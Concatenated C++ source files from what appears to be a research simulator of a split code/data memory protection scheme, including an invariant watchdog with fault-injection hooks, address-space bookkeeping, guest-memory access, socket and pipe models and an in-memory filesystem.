    core_dtlb_versions_.resize(k.num_cores(), ~u64{0});
  }
  check_smp_window(k, p);
  arch::Mmu& mmu = k.mmu();
  const u32 core = k.active_core();
  const bool audit = ++steps_since_audit_ >= kAuditPeriod ||
                     p.pid != last_pid_ ||
                     mmu.itlb().version() != core_itlb_versions_[core] ||
                     mmu.dtlb().version() != core_dtlb_versions_[core];
  last_pid_ = p.pid;
  if (audit) {
    // Runs before the upcoming instruction consumes anything: a TLB entry
    // corrupted by this step's injector pre_step bumped a version counter,
    // so it is swept here — before a fetch or load can ever see it.
    full_audit(k, p);
  } else {
    // Incremental form: every split PTE (closes the corrupt-PTE-to-walk
    // window; split page counts are small) plus the fetch page's I-TLB.
    scan_split_ptes(k, p);
  }
  check_fetch_page(k, p, k.regs_of(p).pc);
}

void InvariantWatchdog::check_window(Kernel& k, Process& p) {
  arch::Regs& regs = k.regs_of(p);
  if (p.pending_split_vaddr && !regs.tf()) {
    // I4a: the single-step window is open but the trap that closes it was
    // lost. Re-run the engine's own close path (Algorithm 2 is idempotent).
    on_violation(k, p, *p.pending_split_vaddr, kI4);
    k.engine().on_debug_step(k, p);
  } else if (!p.pending_split_vaddr && regs.tf()) {
    // I4b: TF set with no window pending — a spurious single-step storm.
    // (The engine's handler deliberately leaves TF alone in this state.)
    on_violation(k, p, regs.pc, kI4);
    regs.set_tf(false);
  }
}

void InvariantWatchdog::post_step(Kernel& k, Process& p, u32 executed_pc) {
  if (!p.alive() || !p.as) return;
  // Breach backstop: the instruction that just retired was fetched through
  // the I-TLB entry for its page. If that entry maps the DATA frame of a
  // split page, data bytes reached execution — the one outcome the whole
  // architecture exists to prevent.
  const u32 vpn = vpn_of(executed_pc);
  const SplitPair* pair = p.as->split_pair(vpn);
  if (pair != nullptr) {
    const auto e = k.mmu().itlb().peek(vpn);
    if (e && e->pfn == pair->data_frame) {
      ++breaches_;
      ++violations_;
      ++k.stats().invariant_violations;
      SM_TRACE(k.trace_sink(),
               record(trace::EventKind::kInvariantViolation, executed_pc,
                      blamed_index(injector_), kI2));
      k.mmu().itlb().invalidate(vpn);
      if (injector_ != nullptr) {
        injector_->resolve_outstanding(inject::Outcome::kBreach);
      }
      k.log("[invariant] BREACH pid " + std::to_string(p.pid) + " pc " +
            std::to_string(executed_pc) +
            ": instruction fetched from the data frame of a split page");
    }
  }
  check_window(k, p);
}

void InvariantWatchdog::finalize(Kernel& k) {
  // The TLBs hold the context of the last process that ran; sweeping them
  // against any other address space would be meaningless.
  Process* cur = k.process(last_pid_);
  if (cur != nullptr && cur->alive() && cur->as) {
    full_audit(k, *cur);
  }
  for (const auto& up : k.processes()) {
    Process& p = *up;
    if (!p.alive() || !p.as || &p == cur) continue;
    scan_split_ptes(k, p);
  }
  // Leftover pending shootdowns (e.g. the last process exited before an
  // audit ran) are repaired directly so no stale entry outlives the run.
  if (!k.pending_shootdowns().empty()) k.complete_pending_shootdowns();
  // Nothing left can consume machine state: classify whatever remains.
  resolve_after_audit();
}

}  // namespace sm::invariant
