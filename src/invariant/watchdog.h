// InvariantWatchdog: the always-on checker of the split-protocol
// invariants, and the recovery path when they are violated.
//
// The paper's security argument rests on a handful of properties that are
// nowhere enforced at runtime — they hold because the protocol code is
// correct and the hardware behaves. This watchdog re-checks them around
// every retired instruction (cheap incremental form) and actively repairs
// what it finds, so a misbehaving machine (the fault injector, src/inject)
// degrades the system instead of breaking it:
//
//   I1  Outside a fill window, a split page's PTE is supervisor-restricted,
//       carries kSplit, and points at one of the pair's frames.
//   I2  The I-TLB never maps a split page to its DATA frame (the breach-
//       adjacent state: one fetch away from executing injected bytes).
//   I3  The D-TLB never maps a writable split page to its CODE frame
//       (read-only pages are exempt — both frames hold identical bytes).
//   I4  Window discipline: a pending single-step window implies TF is set;
//       TF set implies a window is pending. (pending && !TF = the debug
//       trap was lost; TF && !pending = a spurious single-step storm.)
//   I5  TLB/page-table coherence for unsplit pages: no stale frame, no
//       user/writable elevation over the current PTE. Split pages and
//       PAGEEXEC-restricted pages (!user && no_exec) cache user=1 by
//       design and are exempt from the user-bit clause.
//   I6  Cross-core coherence (cores > 1): no REMOTE core's TLBs cache a
//       translation that disagrees with the owning process's PTE/pair
//       state — and mid-window, no remote core caches the window page at
//       all (its PTE is transiently unrestricted; a remote hit would serve
//       a frame the active core holds mid-protocol). Reachable only via
//       injected ack-no-flush / dropped-IPI faults: the shootdown protocol
//       invalidates remote entries before any PTE mutation takes effect.
//   I7  Shootdown acks precede window entry: a single-step window must not
//       open over a page whose shootdown is still pending (IPI retries
//       exhausted). Repair completes the pending invalidations directly.
//
// Checking discipline (why this is cheap): every step pays O(1) — the
// fetch page's PTE + I-TLB slot and the window flags. The full audit
// (both TLB sweeps + every split PTE) runs only when a TLB's version
// counter moved, the scheduled pid changed, or a 16-instruction period
// elapsed. The watchdog only observes and repairs through architectural
// operations (pt.set, invlpg, the engine's own close/degrade paths) and
// never charges simulated cycles; a clean run's billing is untouched
// because a clean run never trips a repair.
//
// Violation outcomes: each repair counts as detected-and-recovered; a page
// needing more than kRetryLimit repairs is locked unsplit via the engine's
// degrade path (gracefully degraded); an instruction retired from a split
// page while the I-TLB mapped its data frame is a security breach (the
// campaign fails). After each full audit the attached injector's fired-
// but-unresolved faults are classified, so no injected fault stays silent.
#pragma once

#include <cstdint>
#include <map>
#include <vector>

#include "inject/fault_injector.h"
#include "kernel/hooks.h"

namespace sm::arch {
class Tlb;
}  // namespace sm::arch

namespace sm::kernel {
class Kernel;
struct Process;
}  // namespace sm::kernel

namespace sm::snapshot {
struct Access;
}

namespace sm::invariant {

using arch::u32;
using arch::u64;

class InvariantWatchdog final : public kernel::StepObserver {
 public:
  // Invariant ids used in trace events and per-check reporting.
  enum : arch::u8 { kI1 = 1, kI2 = 2, kI3 = 3, kI4 = 4, kI5 = 5, kI6 = 6,
                    kI7 = 7 };

  // Repairs on the same page beyond this count trigger degradation.
  static constexpr u32 kRetryLimit = 8;

  InvariantWatchdog() = default;

  // Wires the watchdog into `k`. If `injector` is non-null, fired faults
  // are classified against the audit results.
  void attach(kernel::Kernel& k, inject::FaultInjector* injector = nullptr);

  void pre_step(kernel::Kernel& k, kernel::Process& p) override;
  void post_step(kernel::Kernel& k, kernel::Process& p,
                 u32 executed_pc) override;

  // End-of-run closure: audits every live process, then classifies any
  // remaining fired faults. Call after Kernel::run returns.
  void finalize(kernel::Kernel& k);

  u32 breaches() const { return breaches_; }
  u32 violations() const { return violations_; }
  u32 recoveries() const { return recoveries_; }
  u32 degradations() const { return degradations_; }

 private:
  friend struct sm::snapshot::Access;

  void full_audit(kernel::Kernel& k, kernel::Process& p);
  // Sweeps one TLB against p's page tables. remote_inv = 0 sweeps the
  // active core (violations keep their own ids); a nonzero remote_inv
  // (kI6) sweeps another core's TLB and reports every hit under that id.
  void sweep_tlb(kernel::Kernel& k, kernel::Process& p, arch::Tlb& tlb,
                 bool is_itlb, arch::u8 remote_inv = 0);
  // Audits every REMOTE core's TLBs, attributing each core's entries by
  // CR3 (set_cr3 flushes, so cached entries belong to the current root).
  void sweep_remote_cores(kernel::Kernel& k);
  // I6/I7 window guards, checked at window entry. No-op at cores=1.
  void check_smp_window(kernel::Kernel& k, kernel::Process& p);
  void scan_split_ptes(kernel::Kernel& k, kernel::Process& p);
  // Checks/repairs one split page's PTE (I1). No-op for unsplit vpns.
  void check_split_pte(kernel::Kernel& k, kernel::Process& p, u32 vpn);
  // Pre-fetch guard: the I-TLB slot for the page `pc` will fetch from (I2).
  void check_fetch_page(kernel::Kernel& k, kernel::Process& p, u32 pc);
  void check_window(kernel::Kernel& k, kernel::Process& p);
  void on_violation(kernel::Kernel& k, kernel::Process& p, u32 vaddr,
                    arch::u8 invariant);
  void resolve_after_audit();

  inject::FaultInjector* injector_ = nullptr;
  // Per-core TLB version counters at the last audit (index = core id;
  // lazily sized on first pre_step). A moved counter on the ACTIVE core
  // triggers a full audit, exactly as the single-core scalars did.
  std::vector<u64> core_itlb_versions_;
  std::vector<u64> core_dtlb_versions_;
  u32 last_pid_ = 0;
  u32 steps_since_audit_ = 0;
  bool degraded_since_resolve_ = false;
  // Repair count per (pid, vpn), for the bounded-retry degradation.
  std::map<u64, u32> repairs_;
  // Scratch for scan_split_ptes: the vpn snapshot iterated while repairs
  // may erase pages from the live split map (reused to avoid per-step
  // allocation).
  std::vector<u32> scan_vpns_;

  u32 violations_ = 0;
  u32 recoveries_ = 0;
  u32 degradations_ = 0;
  u32 breaches_ = 0;
};

}  // namespace sm::invariant
