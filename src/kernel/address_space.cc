#include "kernel/address_space.h"

#include <algorithm>
#include <cstring>
#include <stdexcept>
#include <utility>

namespace sm::kernel {

using arch::kPageMask;
using arch::kPageSize;
using arch::page_floor;
using arch::u64;
using arch::vpn_of;

AddressSpace::AddressSpace(PhysicalMemory& pm)
    : pm_(&pm), root_(PageTable::create(pm)) {}

AddressSpace::~AddressSpace() { destroy(); }

void AddressSpace::destroy() {
  if (destroyed_) return;
  destroyed_ = true;
  PageTable table = pt();
  table.for_each_mapping([&](u32 vaddr, Pte pte) {
    const u32 vpn = vpn_of(vaddr);
    if (const auto it = split_pages_.find(vpn); it != split_pages_.end()) {
      // Both physical pages of a split page return to the free pool
      // (paper §5.4: "freeing two pages instead of just one").
      pm_->unref_frame(it->second.code_frame);
      pm_->unref_frame(it->second.data_frame);
    } else {
      pm_->unref_frame(pte.pfn());
    }
  });
  split_pages_.clear();
  table.destroy();
}

Vma& AddressSpace::add_vma(Vma vma) {
  if ((vma.start & kPageMask) != 0 || (vma.end & kPageMask) != 0 ||
      vma.start >= vma.end) {
    throw std::invalid_argument("VMA must be page aligned and non-empty");
  }
  for (const Vma& v : vmas_) {
    if (vma.start < v.end && v.start < vma.end) {
      throw std::invalid_argument("VMA overlaps existing region " + v.name);
    }
  }
  vmas_.push_back(std::move(vma));
  return vmas_.back();
}

const Vma* AddressSpace::find_vma(u32 addr) const {
  for (const Vma& v : vmas_) {
    if (v.contains(addr)) return &v;
  }
  return nullptr;
}

Vma* AddressSpace::find_vma(u32 addr) {
  return const_cast<Vma*>(std::as_const(*this).find_vma(addr));
}

void AddressSpace::remove_range(u32 start, u32 end) {
  for (u32 va = page_floor(start); va < end; va += kPageSize) {
    unmap_page(va);
  }
  // Trim or delete VMAs. Partial overlaps split into the remaining halves.
  std::vector<Vma> kept;
  for (Vma& v : vmas_) {
    if (v.end <= start || v.start >= end) {
      kept.push_back(std::move(v));
      continue;
    }
    if (v.start < start) {
      Vma left = v;
      left.end = start;
      kept.push_back(std::move(left));
    }
    if (v.end > end) {
      Vma right = v;
      right.backing_offset += end - right.start;
      right.start = end;
      kept.push_back(std::move(right));
    }
  }
  vmas_ = std::move(kept);
}

u32 AddressSpace::find_mmap_gap(u32 len) {
  // Simple first-fit scan in the mmap window.
  constexpr u32 kMmapBase = 0x40000000;
  constexpr u32 kMmapTop = 0xB0000000;
  u32 candidate = kMmapBase;
  bool moved = true;
  while (moved) {
    moved = false;
    for (const Vma& v : vmas_) {
      if (candidate < v.end && v.start < candidate + len) {
        candidate = v.end;
        moved = true;
      }
    }
    if (candidate + len > kMmapTop) {
      throw std::runtime_error("mmap window exhausted");
    }
  }
  return candidate;
}

const SplitPair* AddressSpace::split_pair(u32 vpn) const {
  const auto it = split_pages_.find(vpn);
  return it == split_pages_.end() ? nullptr : &it->second;
}

void AddressSpace::unsplit(u32 vpn, u32 kept_frame) {
  const auto it = split_pages_.find(vpn);
  if (it == split_pages_.end()) return;
  if (it->second.code_frame != kept_frame) {
    pm_->unref_frame(it->second.code_frame);
  }
  if (it->second.data_frame != kept_frame) {
    pm_->unref_frame(it->second.data_frame);
  }
  split_pages_.erase(it);
}

void AddressSpace::unmap_page(u32 vaddr) {
  PageTable table = pt();
  const Pte pte = table.get(vaddr);
  if (!pte.present()) return;
  const u32 vpn = vpn_of(vaddr);
  if (const auto it = split_pages_.find(vpn); it != split_pages_.end()) {
    pm_->unref_frame(it->second.code_frame);
    pm_->unref_frame(it->second.data_frame);
    split_pages_.erase(it);
  } else {
    pm_->unref_frame(pte.pfn());
  }
  table.clear(vaddr);
}

void AddressSpace::initial_page_bytes(const Vma& vma, u32 page_vaddr,
                                      std::span<u8> out) const {
  std::ranges::fill(out, u8{0});
  if (vma.backing == nullptr) return;
  const u32 page = page_floor(page_vaddr);
  if (page < vma.start) return;
  const u64 rel = static_cast<u64>(page - vma.start) + vma.backing_offset;
  const auto& src = *vma.backing;
  if (rel >= src.size()) return;
  const std::size_t n =
      std::min<std::size_t>(out.size(), src.size() - static_cast<std::size_t>(rel));
  std::memcpy(out.data(), src.data() + rel, n);
}

}  // namespace sm::kernel
