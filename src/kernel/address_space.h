// Per-process virtual address space: page directory, VMA list, and the
// bookkeeping for memory-split page pairs.
//
// The *mechanism* of "a virtual page backed by two physical frames" lives
// here (SplitPair registry, teardown, fork sharing); the *policy* of which
// pages get a pair and how faults route between the frames is the
// ProtectionEngine (sm::core::SplitMemoryEngine implements the paper's).
#pragma once

#include <map>
#include <memory>
#include <optional>
#include <span>
#include <string>
#include <vector>

#include "arch/page_table.h"
#include "arch/phys_mem.h"
#include "arch/types.h"

namespace sm::snapshot {
struct Access;
}

namespace sm::kernel {

using arch::PageTable;
using arch::PhysicalMemory;
using arch::Pte;
using arch::u32;
using arch::u8;

enum class VmaKind { kCode, kData, kBss, kHeap, kStack, kMmap, kLibrary };

struct Vma {
  u32 start = 0;  // page aligned
  u32 end = 0;    // exclusive, page aligned
  u32 prot = 0;   // kProtR/W/X bits
  VmaKind kind = VmaKind::kData;
  std::string name;
  // Initialized contents: page at vaddr is filled from
  // backing[vaddr - start + backing_offset ...], zero beyond.
  std::shared_ptr<const std::vector<u8>> backing;
  u32 backing_offset = 0;

  bool readable() const { return prot & 1; }
  bool writable() const { return prot & 2; }
  bool executable() const { return prot & 4; }
  // Writable+executable: the mixed code-and-data layout the execute-disable
  // bit cannot protect (paper Fig. 1b).
  bool mixed() const { return writable() && executable(); }
  bool contains(u32 addr) const { return addr >= start && addr < end; }
};

// The two frames backing one memory-split virtual page: instruction fetches
// may only ever see `code_frame`; data accesses only `data_frame`.
struct SplitPair {
  u32 code_frame = 0;
  u32 data_frame = 0;
};

class AddressSpace {
 public:
  explicit AddressSpace(PhysicalMemory& pm);
  ~AddressSpace();

  AddressSpace(const AddressSpace&) = delete;
  AddressSpace& operator=(const AddressSpace&) = delete;

  u32 root() const { return root_; }
  PageTable pt() { return PageTable(*pm_, root_); }
  PhysicalMemory& phys() { return *pm_; }

  // --- VMAs -------------------------------------------------------------
  // Adds a VMA; throws std::invalid_argument on overlap/misalignment.
  Vma& add_vma(Vma vma);
  const Vma* find_vma(u32 addr) const;
  Vma* find_vma(u32 addr);
  const std::vector<Vma>& vmas() const { return vmas_; }
  std::vector<Vma>& vmas() { return vmas_; }
  // Removes [start,end) from the VMA list, unmapping and freeing frames.
  void remove_range(u32 start, u32 end);
  // Picks a free region for an anonymous mmap.
  u32 find_mmap_gap(u32 len);

  // --- split pairs --------------------------------------------------------
  std::map<u32, SplitPair>& split_pages() { return split_pages_; }
  const SplitPair* split_pair(u32 vpn) const;
  void register_split(u32 vpn, SplitPair pair) { split_pages_[vpn] = pair; }
  // Forgets the pair and releases the frame NOT kept by the PTE (used by
  // observe mode when it locks a page onto its data frame, Algorithm 3).
  void unsplit(u32 vpn, u32 kept_frame);

  // --- page mapping helpers ----------------------------------------------
  // Unmaps one page, dropping frame references (both frames for a split
  // page). No-op if not present.
  void unmap_page(u32 vaddr);

  // Initial content for the page covering vaddr per its VMA backing.
  void initial_page_bytes(const Vma& vma, u32 page_vaddr,
                          std::span<u8> out) const;

  // --- heap ---------------------------------------------------------------
  u32 brk_end = 0;  // current program break (heap VMA grows to here)

  // Frees every mapping and the page tables themselves. Called by the
  // destructor; idempotent.
  void destroy();

 private:
  friend struct sm::snapshot::Access;

  // Snapshot-restore path: adopt an already-populated page-table root
  // (the tables live in restored physical memory) instead of allocating a
  // fresh one. Only snapshot::Access calls this.
  struct AdoptRoot {};
  AddressSpace(PhysicalMemory& pm, u32 root, AdoptRoot)
      : pm_(&pm), root_(root) {}

  PhysicalMemory* pm_;
  u32 root_;
  bool destroyed_ = false;
  std::vector<Vma> vmas_;
  std::map<u32, SplitPair> split_pages_;
};

}  // namespace sm::kernel
