#include "kernel/channel.h"

#include <algorithm>

namespace sm::kernel {

void Channel::host_write(std::span<const u8> bytes) {
  to_guest_.insert(to_guest_.end(), bytes.begin(), bytes.end());
}

void Channel::host_write(const std::string& s) {
  host_write(std::span<const u8>(reinterpret_cast<const u8*>(s.data()),
                                 s.size()));
}

std::vector<u8> Channel::host_read_all() {
  std::vector<u8> out(to_host_.begin(), to_host_.end());
  to_host_.clear();
  return out;
}

std::string Channel::host_read_string() {
  std::string out(to_host_.begin(), to_host_.end());
  to_host_.clear();
  return out;
}

u32 Channel::guest_read(std::span<u8> out) {
  const std::size_t n = std::min(out.size(), to_guest_.size());
  for (std::size_t i = 0; i < n; ++i) {
    out[i] = to_guest_.front();
    to_guest_.pop_front();
  }
  return static_cast<u32>(n);
}

void Channel::guest_write(std::span<const u8> bytes) {
  to_host_.insert(to_host_.end(), bytes.begin(), bytes.end());
  bytes_to_host_ += bytes.size();
}

u32 Pipe::read(std::span<u8> out) {
  const std::size_t n = std::min(out.size(), buf_.size());
  for (std::size_t i = 0; i < n; ++i) {
    out[i] = buf_.front();
    buf_.pop_front();
  }
  return static_cast<u32>(n);
}

u32 Pipe::write(std::span<const u8> in) {
  const std::size_t n = std::min(in.size(), writable());
  buf_.insert(buf_.end(), in.begin(), in.begin() + n);
  return static_cast<u32>(n);
}

}  // namespace sm::kernel
