// Byte-stream endpoints connecting guests to the host harness and to each
// other: Channel models a network socket (the exploit delivery path in
// every paper attack), Pipe models a Unix pipe (the unixbench "pipe-based
// context switching" stressor of Fig. 7/9).
#pragma once

#include <cstddef>
#include <deque>
#include <memory>
#include <span>
#include <string>
#include <vector>

#include "arch/types.h"

namespace sm::snapshot {
struct Access;
}

namespace sm::kernel {

using arch::u32;
using arch::u8;

// A bidirectional host<->guest byte stream (simulated TCP connection).
class Channel {
 public:
  // Host side (the "attacker"/"client" machine).
  void host_write(std::span<const u8> bytes);
  void host_write(const std::string& s);
  std::vector<u8> host_read_all();
  std::string host_read_string();
  std::size_t host_readable() const { return to_host_.size(); }
  void host_close() { host_closed_ = true; }

  // Guest side (used by the kernel on behalf of read/write syscalls).
  std::size_t guest_readable() const { return to_guest_.size(); }
  bool guest_eof() const { return host_closed_ && to_guest_.empty(); }
  u32 guest_read(std::span<u8> out);
  void guest_write(std::span<const u8> bytes);

  // Total bytes that crossed the link guest→host (network model input).
  arch::u64 bytes_to_host() const { return bytes_to_host_; }

 private:
  friend struct sm::snapshot::Access;

  std::deque<u8> to_guest_;
  std::deque<u8> to_host_;
  bool host_closed_ = false;
  arch::u64 bytes_to_host_ = 0;
};

class Pipe;

// A simulated listening socket: a port-keyed accept queue of established
// connections, bounded by `capacity`. Each queued connection is a pair of
// unidirectional pipes (client->server and server->client) created by
// connect(); accept() pops the pair into a socket fd. When the queue is
// full, further connects are REFUSED immediately — the SYN-queue-overflow
// model, and the kernel-level load-shedding point of the overload stack.
// Reference-counted like a pipe end (fork duplicates the listen fd); the
// kernel deregisters the port when the last holder closes.
struct ListenSock {
  // One established-but-unaccepted connection.
  struct PendingConn {
    std::shared_ptr<Pipe> c2s;  // client writes, server reads
    std::shared_ptr<Pipe> s2c;  // server writes, client reads
  };

  u32 port = 0;
  u32 capacity = 0;  // accept-queue bound (>= 1)
  int refs = 0;      // fd-table holders across fork
  std::deque<PendingConn> backlog;

  // Pids blocked in accept() (or select2 on the listen fd), FIFO, drained
  // by the kernel with the same stale-entry re-validation as pipe waiters.
  std::deque<u32> accept_waiters;

  bool full() const { return backlog.size() >= capacity; }
};

// A unidirectional kernel pipe with a bounded buffer. End references are
// counted (dup'ed by fork, dropped by close and by process exit) so EOF
// and EPIPE fire exactly when the LAST holder of an end goes away.
class Pipe {
 public:
  static constexpr std::size_t kCapacity = 65536;

  std::size_t readable() const { return buf_.size(); }
  std::size_t writable() const { return kCapacity - buf_.size(); }
  bool eof() const { return writers_ == 0 && buf_.empty(); }

  u32 read(std::span<u8> out);
  u32 write(std::span<const u8> in);  // partial writes allowed

  void add_reader() { ++readers_; }
  void add_writer() { ++writers_; }
  void remove_reader() {
    if (readers_ > 0) --readers_;
  }
  void remove_writer() {
    if (writers_ > 0) --writers_;
  }
  bool read_closed() const { return readers_ == 0; }

  // Wait queues, owned and drained by the kernel: pids blocked reading an
  // empty pipe / writing a full one, in block (FIFO) order. Entries may go
  // stale (the process was woken through another queue or died); the
  // kernel re-validates at wake time and skips them.
  std::deque<u32> read_waiters;
  std::deque<u32> write_waiters;

 private:
  friend struct sm::snapshot::Access;

  std::deque<u8> buf_;
  int readers_ = 0;
  int writers_ = 0;
};

}  // namespace sm::kernel
