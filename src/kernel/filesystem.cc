#include "kernel/filesystem.h"

namespace sm::kernel {

std::shared_ptr<FileNode> FileSystem::create(const std::string& path,
                                             bool truncate) {
  auto& node = nodes_[path];
  if (node == nullptr) {
    node = std::make_shared<FileNode>();
  } else if (truncate) {
    node->bytes.clear();
  }
  return node;
}

std::shared_ptr<FileNode> FileSystem::lookup(const std::string& path) const {
  const auto it = nodes_.find(path);
  return it == nodes_.end() ? nullptr : it->second;
}

void FileSystem::put(const std::string& path, std::vector<u8> bytes) {
  create(path, /*truncate=*/true)->bytes = std::move(bytes);
}

void FileSystem::put(const std::string& path, const std::string& text) {
  put(path, std::vector<u8>(text.begin(), text.end()));
}

}  // namespace sm::kernel
