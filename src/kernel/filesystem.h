// Trivial in-memory filesystem.
//
// Exists so guests have something real behind open/read/write: the proftpd
// attack uploads then downloads a file, the webserver serves documents, and
// the unixbench filesystem microbenchmark streams through it.
#pragma once

#include <map>
#include <memory>
#include <string>
#include <vector>

#include "arch/types.h"

namespace sm::snapshot {
struct Access;
}

namespace sm::kernel {

using arch::u32;
using arch::u8;

struct FileNode {
  std::vector<u8> bytes;
};

class FileSystem {
 public:
  // Creates (or truncates when truncate=true) and returns the node.
  std::shared_ptr<FileNode> create(const std::string& path, bool truncate);
  std::shared_ptr<FileNode> lookup(const std::string& path) const;
  bool exists(const std::string& path) const { return nodes_.contains(path); }
  void put(const std::string& path, std::vector<u8> bytes);
  void put(const std::string& path, const std::string& text);
  bool remove(const std::string& path) { return nodes_.erase(path) > 0; }

 private:
  friend struct sm::snapshot::Access;

  std::map<std::string, std::shared_ptr<FileNode>> nodes_;
};

}  // namespace sm::kernel
