#include "kernel/guest_mem.h"

namespace sm::kernel {

using arch::kPageSize;
using arch::page_offset;
using arch::u64;
using arch::vpn_of;

std::optional<u64> GuestMem::phys_of(u32 va, View view) const {
  const Pte pte = const_cast<AddressSpace*>(as_)->pt().get(va);
  if (!pte.present()) return std::nullopt;
  u32 pfn = pte.pfn();
  if (const SplitPair* pair = as_->split_pair(vpn_of(va))) {
    pfn = view == View::kCode ? pair->code_frame : pair->data_frame;
  }
  return static_cast<u64>(pfn) * kPageSize + page_offset(va);
}

bool GuestMem::mapped(u32 va) const {
  return phys_of(va, View::kData).has_value();
}

bool GuestMem::read(u32 va, std::span<u8> out, View view) const {
  PhysicalMemory& pm = as_->phys();
  for (std::size_t i = 0; i < out.size(); ++i) {
    const auto pa = phys_of(va + static_cast<u32>(i),
                            view == View::kBoth ? View::kData : view);
    if (!pa) return false;
    out[i] = pm.read8(*pa);
  }
  return true;
}

bool GuestMem::write(u32 va, std::span<const u8> in, View view) {
  PhysicalMemory& pm = as_->phys();
  // Pre-check the whole range so partial writes don't happen.
  for (std::size_t i = 0; i < in.size(); ++i) {
    if (!phys_of(va + static_cast<u32>(i), View::kData)) return false;
  }
  for (std::size_t i = 0; i < in.size(); ++i) {
    const u32 addr = va + static_cast<u32>(i);
    if (view == View::kData || view == View::kBoth) {
      pm.write8(*phys_of(addr, View::kData), in[i]);
    }
    if (view == View::kCode || view == View::kBoth) {
      pm.write8(*phys_of(addr, View::kCode), in[i]);
    }
  }
  return true;
}

std::optional<u32> GuestMem::read32(u32 va, View view) const {
  u8 b[4];
  if (!read(va, b, view)) return std::nullopt;
  return static_cast<u32>(b[0]) | (static_cast<u32>(b[1]) << 8) |
         (static_cast<u32>(b[2]) << 16) | (static_cast<u32>(b[3]) << 24);
}

bool GuestMem::write32(u32 va, u32 v, View view) {
  const u8 b[4] = {static_cast<u8>(v), static_cast<u8>(v >> 8),
                   static_cast<u8>(v >> 16), static_cast<u8>(v >> 24)};
  return write(va, b, view);
}

std::optional<std::string> GuestMem::read_cstr(u32 va, u32 max_len) const {
  std::string out;
  PhysicalMemory& pm = as_->phys();
  for (u32 i = 0; i < max_len; ++i) {
    const auto pa = phys_of(va + i, View::kData);
    if (!pa) return std::nullopt;
    const u8 c = pm.read8(*pa);
    if (c == 0) return out;
    out.push_back(static_cast<char>(c));
  }
  return std::nullopt;
}

}  // namespace sm::kernel
