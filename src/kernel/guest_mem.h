// Kernel-side access to guest memory (copy_to_user/copy_from_user).
//
// Walks the address space's page tables directly — never the TLBs — so
// kernel copies can't perturb the deliberately-desynchronized TLB state.
// For memory-split pages the caller chooses a view: syscalls act on the
// DATA view (what the process reads/writes), the loader and the forensic
// shellcode injector write the CODE view or BOTH.
//
// All writes land through PhysicalMemory's write paths, which bump the
// target frame's generation counter — so a kernel write to a code frame
// (loader relocation, forensic injection) automatically invalidates any
// decoded-instruction-cache entries for that frame. No explicit flush
// hook is needed here; see DESIGN.md §8.
#pragma once

#include <optional>
#include <span>
#include <string>
#include <vector>

#include "kernel/address_space.h"

namespace sm::kernel {

using arch::u64;

enum class View { kData, kCode, kBoth };

class GuestMem {
 public:
  explicit GuestMem(AddressSpace& as) : as_(&as) {}

  // Return false if any page in the range is unmapped (caller should
  // demand-fault it in first; Kernel::ensure_mapped does that).
  bool read(u32 va, std::span<u8> out, View view = View::kData) const;
  bool write(u32 va, std::span<const u8> in, View view = View::kData);

  std::optional<u32> read32(u32 va, View view = View::kData) const;
  bool write32(u32 va, u32 v, View view = View::kData);

  // Reads a NUL-terminated string (up to max_len bytes); nullopt if it runs
  // off mapped memory or is unterminated.
  std::optional<std::string> read_cstr(u32 va, u32 max_len = 4096) const;

  bool mapped(u32 va) const;

 private:
  // Physical address of one byte under the given view, or nullopt.
  std::optional<u64> phys_of(u32 va, View view) const;

  AddressSpace* as_;
};

}  // namespace sm::kernel
