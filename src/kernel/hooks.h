// Run-loop hook interfaces for the robustness subsystem, plus the
// SM_INVARIANT compile-time gate (two-layer gating mirroring SM_TRACE):
//
//  1. Compile time. The kernel's per-instruction hook sites are wrapped in
//     `#if SM_INVARIANT_ENABLED`; with -DSM_INVARIANT_ENABLED=0 (CMake:
//     -DSM_INVARIANT=OFF) the run loop carries zero robustness code.
//  2. Run time. When compiled in (the default), the kernel holds non-owning
//     FaultSource/StepObserver pointers that are nullptr unless a harness
//     attached them; each site costs one unlikely-hinted null check per
//     retired instruction. Cpu::step() itself carries nothing — the
//     BM_CpuStepCached hot loop never sees these branches.
//
// The concrete implementations live outside the kernel: the deterministic
// fault injector (src/inject/) is a FaultSource, and the split-protocol
// invariant watchdog (src/invariant/) is a StepObserver. The kernel only
// knows these interfaces, so the dependency arrows stay inject/invariant ->
// kernel, never the reverse.
#pragma once

#include "arch/types.h"

#ifndef SM_INVARIANT_ENABLED
#define SM_INVARIANT_ENABLED 1
#endif

namespace sm::kernel {

class Kernel;
struct Process;

// A source of injected hardware/OS misbehaviour, consulted by the run loop
// at named protocol points. All methods default to "no fault".
class FaultSource {
 public:
  virtual ~FaultSource() = default;

  // Called once before every cpu.step() with the process about to run.
  // Count-scheduled faults (TLB/PTE corruption, trap-flag flips, spurious
  // flushes) apply themselves here.
  virtual void pre_step(Kernel& k, Process& p) {
    (void)k;
    (void)p;
  }

  // A debug (single-step) trap was raised and is about to be delivered to
  // the protection engine. Return true to lose it: the handler never runs
  // and the single-step window is left open.
  virtual bool drop_debug_trap(Kernel& k, Process& p) {
    (void)k;
    (void)p;
    return false;
  }

  // A debug trap was just handled. Return true to deliver a spurious
  // duplicate to the engine (the handler must be idempotent).
  virtual bool duplicate_debug_trap(Kernel& k, Process& p) {
    (void)k;
    (void)p;
    return false;
  }

  // Consulted where the timer would preempt. Return true to force a
  // context switch now even though the timeslice has not expired (the
  // mid-single-step-window preemption fault).
  virtual bool force_preempt(Kernel& k, Process& p) {
    (void)k;
    (void)p;
    return false;
  }

  // A TLB-shootdown IPI is about to be delivered to `target_core` for the
  // page at `vaddr`. Return true to drop it in flight (the sender retries;
  // exhausted retries leave the shootdown pending — invariant I7).
  virtual bool drop_ipi(Kernel& k, Process& p, arch::u32 target_core,
                        arch::u32 vaddr) {
    (void)k;
    (void)p;
    (void)target_core;
    (void)vaddr;
    return false;
  }

  // `target_core` received the shootdown IPI and is about to flush. Return
  // true to ack WITHOUT flushing (a buggy remote handler): the stale entry
  // survives on that core — invariant I6.
  virtual bool ack_without_flush(Kernel& k, Process& p,
                                 arch::u32 target_core, arch::u32 vaddr) {
    (void)k;
    (void)p;
    (void)target_core;
    (void)vaddr;
    return false;
  }

  // Consulted once per dispatch, after pre_step. Return a nonzero cycle
  // count to stall the process about to run: the kernel parks it as if it
  // had slept (WaitSleep + armed deadline) and schedules around it — the
  // stall-worker fault. The injector defers while a single-step window is
  // open (TF set or a pending split vaddr): the stall models a slow
  // worker, not a hole in the Algorithm-2 protocol.
  virtual arch::u64 stall_cycles(Kernel& k, Process& p) {
    (void)k;
    (void)p;
    return 0;
  }

  // A connect() passed the listener/backlog checks and is about to queue a
